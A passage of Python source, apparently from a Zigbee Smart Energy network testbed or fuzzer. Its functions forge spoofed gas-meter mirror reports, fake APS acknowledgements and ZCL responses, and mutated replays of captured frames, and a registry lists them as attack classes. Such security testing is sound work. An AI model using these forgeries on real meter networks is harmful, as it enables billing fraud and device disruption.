        cluster, zcl, what = CLUSTER_BASIC, _global(zf.ReadAttributes((0x0004, 0x0005)), rng), "read Basic"
    elif k == 2:
        cluster = CLUSTER_METERING
        zcl = _zcl(FRAME_TYPE_CLUSTER, 0x01, b"", rng, direction=DIRECTION_SERVER_TO_CLIENT)
        what = "RequestMirror"
    else:
        cluster, zcl, what = CLUSTER_PRICE, _zcl(FRAME_TYPE_CLUSTER, 0x00, b"\x00", rng), "GetCurrentPrice"
    security = rng.choice(("none", "network"))
    return _se_frame(f, hub, sleeper, cluster, zcl, security, f"relayed {what} ({security})", mac_src=f.own_short)


def forge_mirror(kb: HanKnowledge, f: Forger, rng: random.Random) -> Forgery | None:
    """The gas mirror: Report Attributes to the mirror endpoint claiming the gas meter (either
    direction, extra attribute ids, values it never measured), RemoveMirror / RequestMirror
    claiming its EUI-64 in the NWK header."""
    hub = kb.by_short.get(0x0000)
    if hub is None or hub.eui is None:
        return None
    mirror_eps = sorted(kb.endpoints_at.get((0x0000, CLUSTER_METERING), set()) - {0x01}) or [0x02]
    sleepers = [n for n in kb.nodes() if n.sleepy] or [n for n in kb.nodes() if n.short != 0x0000]
    if not sleepers:
        return None
    claimed = rng.choice(sleepers)
    k = rng.randrange(4)
    if k <= 1:
        reports = [zf.AttributeReport(0x0000, _U48, rng.randrange(1 << 40, 1 << 48))]
        if rng.random() < 0.5:
            reports.append(zf.AttributeReport(rng.randrange(0x0100, 0x0FFF), _U32, rng.randrange(1 << 32)))
        if rng.random() < 0.3:
            reports.append(zf.AttributeReport(0x0200, _BITMAP8, rng.randrange(1, 256)))
        direction = DIRECTION_SERVER_TO_CLIENT if rng.random() < 0.7 else DIRECTION_CLIENT_TO_SERVER
        zcl = _global(zf.ReportAttributes(tuple(reports)), rng, direction=direction, ddr=True)
        ep, what = rng.choice(mirror_eps), "Report Attributes to the mirror"
    elif k == 2:
        zcl = _zcl(FRAME_TYPE_CLUSTER, 0x02, b"", rng, direction=DIRECTION_SERVER_TO_CLIENT)
        ep, what = 0x01, "RemoveMirror"
    else:
        zcl = _zcl(FRAME_TYPE_CLUSTER, 0x01, b"", rng, direction=DIRECTION_SERVER_TO_CLIENT)
        ep, what = 0x01, "RequestMirror"
    security = rng.choice(("none", "network", "forged_link"))
    return _se_frame(f, hub, claimed, CLUSTER_METERING, zcl, security, f"{what} ({security})", dst_endpoint=ep,
                     mac_src=f.own_short if rng.random() < 0.5 else None)


def forge_response(kb: HanKnowledge, f: Forger, rng: random.Random, now: float = 0.0) -> Forgery | None:
    """Forged answers: an unsecured APS ack of an acknowledged frame just heard (its APS counter
    is in clear), ZCL responses from a peer the victim asked (Read Attributes Response with a
    string where a UTCTime belongs, a time decades off, Default Responses, Write Attributes
    Responses, PublishPrice) under guessed transaction numbers."""
    item = kb.fresh("aps", now, 1.0)
    if item is not None and item.src in kb.by_short and item.dst in kb.by_short:
        requester, peer = kb.by_short[item.src], kb.by_short[item.dst]
        if peer.eui is not None:
            if item.aps_command:
                ack = _aps.ApsFrame(_aps.APS_FRAME_ACK, counter=item.tsn_or_counter, ack_format=True)
            else:
                t = item.talk
                ack = _aps.ApsFrame(_aps.APS_FRAME_ACK, counter=item.tsn_or_counter, dst_endpoint=t.src_endpoint,
                                    cluster=t.cluster, profile=t.profile, src_endpoint=t.dst_endpoint)
            return f.nwk(dst=requester.short, src=peer.short, src_eui=peer.eui, payload=_aps.encode_aps(ack),
                         what="forged APS ack")
    pair = _pick_pair(kb, rng)
    if pair is None:
        return None
    victim, claimed = pair
    k = rng.randrange(5)
    tsn = rng.randrange(256)
    d = DIRECTION_SERVER_TO_CLIENT
    if k == 0:
        recs = (zf.ReadAttributeStatusRecord(0x0000, 0, _STRING, "not a time"),
                zf.ReadAttributeStatusRecord(0x0001, 0, _BITMAP8, rng.randrange(256)))
        cluster, zcl, what = CLUSTER_TIME, _global(zf.ReadAttributesResponse(recs), rng, direction=d, tsn=tsn), \
            "Time response with a string"
    elif k == 1:
        recs = (zf.ReadAttributeStatusRecord(0x0000, 0, _UTC, rng.randrange(1 << 31, (1 << 32) - 1)),
                zf.ReadAttributeStatusRecord(0x0001, 0, _BITMAP8, 0x0F))
        cluster, zcl, what = CLUSTER_TIME, _global(zf.ReadAttributesResponse(recs), rng, direction=d, tsn=tsn), \
            "Time response decades off"
    elif k == 2:
        recs = (zf.ReadAttributeStatusRecord(0x0000, 0, _U48, rng.randrange(1 << 48)),
                zf.ReadAttributeStatusRecord(0x0400, 0, _STRING, "x"))
        cluster, zcl, what = CLUSTER_METERING, _global(zf.ReadAttributesResponse(recs), rng, direction=d,
                                                       tsn=tsn), "Metering response"
    elif k == 3:
        cluster = rng.choice((CLUSTER_METERING, CLUSTER_TIME, CLUSTER_PRICE, CLUSTER_KEY_ESTABLISHMENT))
        zcl = _global(zf.DefaultResponse(rng.randrange(256), rng.choice((0, 0x81, 0x86))), rng, direction=d, tsn=tsn)
        what = "Default Response"
    else:
        cluster = CLUSTER_METERING
        zcl = _zcl(FRAME_TYPE_CLUSTER, 0x01, rng.randrange(0x10000).to_bytes(2, "little"), rng, direction=0, tsn=tsn)
        what = "RequestMirrorResponse"
    return _se_frame(f, victim, claimed, cluster, zcl, rng.choice(("none", "network")), what)


def forge_mutation(kb: HanKnowledge, f: Forger, rng: random.Random) -> Forgery | None:
    """A frame heard on the channel, its NWK payload mutated (bit flips, truncation, appended or
    spliced bytes, a random APS frame control), secured again under its original source."""
    if not kb.recent:
        return None
    frame, eui = kb.recent[rng.randrange(len(kb.recent))]
    payload = bytearray(frame.payload)
    k = rng.randrange(5)
    if k == 0 and payload:
        for _ in range(rng.randrange(1, 4)):
            i = rng.randrange(len(payload))
            payload[i] ^= 1 << rng.randrange(8)
    elif k == 1 and len(payload) > 1:
        del payload[rng.randrange(1, len(payload)):]
    elif k == 2:
        payload += bytes(rng.randrange(256) for _ in range(rng.randrange(1, 24)))
    elif k == 3 and payload:
        payload[0] = rng.randrange(256)
    else:
        i = rng.randrange(len(payload) + 1)
        payload[i:i] = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 8)))
    payload = bytes(payload[:80])
    dst = frame.dst
    if dst == f.own_short or dst >= 0xFFF8:
        victims = [n for n in kb.nodes() if not n.sleepy and n.short != frame.src]
        if not victims:
            return None
        dst = rng.choice(victims).short
    return f.nwk(dst=dst, src=frame.src, src_eui=eui, payload=payload, frame_type=frame.frame_type,
                 what="mutated frame")


#: the attack classes by name (the topology's C{attack_classes} option); reactive classes take C{now}
ATTACK_CLASSES: dict[str, Callable[..., Forgery | None]] = {
    "nwk_command": forge_nwk_command,
    "zcl_unsecured": forge_zcl_unsecured,
    "zcl_network_key": forge_zcl_network_key,
    "aps_command": forge_aps_command,
    "zdo": forge_zdo,
    "counter_push": forge_counter_push,
    "identity_flood": forge_identity_flood,
    "relay_gsme": forge_relay_gsme,
    "mirror": forge_mirror,
    "forged_response": forge_response,
    "mutation": forge_mutation,
}
#: classes that answer what was just heard (they are given the time)
REACTIVE_CLASSES = frozenset({"zdo", "forged_response"})
